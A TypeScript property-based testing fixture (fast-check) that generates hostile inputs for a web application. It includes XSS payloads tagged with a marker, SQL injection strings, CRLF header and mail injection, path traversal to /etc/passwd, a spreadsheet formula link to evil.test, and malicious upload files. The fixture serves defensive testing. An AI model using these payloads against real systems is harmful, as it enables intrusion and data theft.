// What people with bad intentions, broken programs and unlucky keyboards send.
import fc from 'fast-check';

/** Stands in every script that is sent: what of it comes back as markup was let through. */
export const mark = 'xq7z';

const scripts = [
  `<script>${mark}()</script>`,
  `"><script src=//${mark}.test></script>`,
  `</title><script>${mark}()</script>`,
  `</textarea></select></option><script>${mark}()</script>`,
  `'"><img src=x onerror=${mark}()>`,
  `<svg/onload=${mark}()>`,
  `<svg><animate onbegin=${mark}() attributeName=x dur=1s>`,
  `<details open ontoggle=${mark}()>`,
  `" autofocus onfocus=${mark}() x="`,
  `' onmouseover='${mark}()`,
  `javascript:${mark}()`,
  ` JaVaScRiPt:${mark}()`,
  `java\tscript:${mark}()`,
  `data:text/html,<script>${mark}()</script>`,
  `"><a href="javascript:${mark}()">x</a>`,
  `<iframe srcdoc="<script>${mark}()</script>">`,
  `<style>@import '//${mark}.test'</style>`,
  `<p style="background:url(//${mark}.test)">`,
  `<link rel=stylesheet href=//${mark}.test>`,
  `<base href=//${mark}.test/>`,
  `<meta http-equiv=refresh content="0;url=//${mark}.test">`,
  `<form action=//${mark}.test><input name=password>`,
  `<object data=//${mark}.test><embed src=//${mark}.test>`,
  `<math><mtext><table><mglyph><style><img src onerror=${mark}()>`,
  `<!--><script>${mark}()</script-->`,
  `<noscript><p title="</noscript><img src=x onerror=${mark}()>">`,
  `<template><script>${mark}()</script></template>`,
  `&lt;script&gt;${mark}()&lt;/script&gt;`,
  `&#60;script&#62;${mark}()&#60;/script&#62;`,
  `%3Cscript%3E${mark}()%3C/script%3E`,
  `{{constructor.constructor('${mark}()')()}}`,
  `\${${mark}()}`,
  `{n, plural, one {${mark}}`,
  `x\r\nSet-Cookie: ${mark}=1\r\n\r\n<script>${mark}()</script>`,
  `x\nBcc: ${mark}@evil.test`,
  `//${mark}.test`,
  `https://${mark}.test/`,
  `/\\${mark}.test`,
];

const queries = [
  "'; drop table person; --",
  "' or '1'='1",
  '") or 1=1 --',
  '%',
  '_',
  '\\',
  '$1',
  "{'a','b'}",
  '{"a":1}',
  "E'\\x00'",
  'null',
  '*:*',
  '!& |(:*<->',
];

const odd = [
  '',
  ' ',
  '0',
  '-1',
  '1e309',
  'NaN',
  '99999999999999999999',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
  '2026-02-30',
  '0000-00-00',
  '+275760-09-13',
  '2026-13-01T99:99',
  '31.02.2026',
  '../../../../etc/passwd',
  '..%2f..%2f',
  'CON',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '01900000-0000-7000-8000-00000000000g',
  'a@b',
  `a@${'b'.repeat(300)}.test`,
  '"a b"@people.test',
  '=HYPERLINK("http://evil.test")',
  '@SUM(1)',
  '\0',
  'a\0b',
  '\ud800',
  '\u202eevil\u202c',
  '\ufeff',
  'é'.normalize('NFD').repeat(50),
  `a${'\u0301'.repeat(500)}`,
  '👩‍👩‍👧‍👦'.repeat(20),
  '\n'.repeat(200),
  'x'.repeat(5_000),
  'ä'.repeat(20_000),
  'word '.repeat(5_000),
  '-'.repeat(2_000),
  '('.repeat(2_000),
];

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...scripts) },
  { weight: 2, arbitrary: fc.constantFrom(...queries) },
  { weight: 3, arbitrary: fc.constantFrom(...odd) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
);

/** Fits into an address: what is in a path or a query is never that long. */
export const hostileWord = hostileText.map((text) => text.slice(0, 2_000));

export const hostileFile: fc.Arbitrary<File> = fc
  .record({
    name: fc.constantFrom(`<img src=x onerror=${mark}()>.csv`, 'a.svg', 'logo.png', '../../x', ''),
    type: fc.constantFrom('text/csv', 'image/svg+xml', 'image/png', 'text/html', ''),
    content: fc.oneof(
      hostileText,
      fc.constantFrom(
        `<svg xmlns="http://www.w3.org/2000/svg" onload="${mark}()"/>`,
        'a;b\n"',
        'slug,name\n',
      ),
      fc
        .array(hostileText, { minLength: 2, maxLength: 8 })
        .map((cells) => `name,kind,email\n${cells.join(',')}\n`),
    ),
  })
  .map(({ name, type, content }) => new File([content], name, { type }));
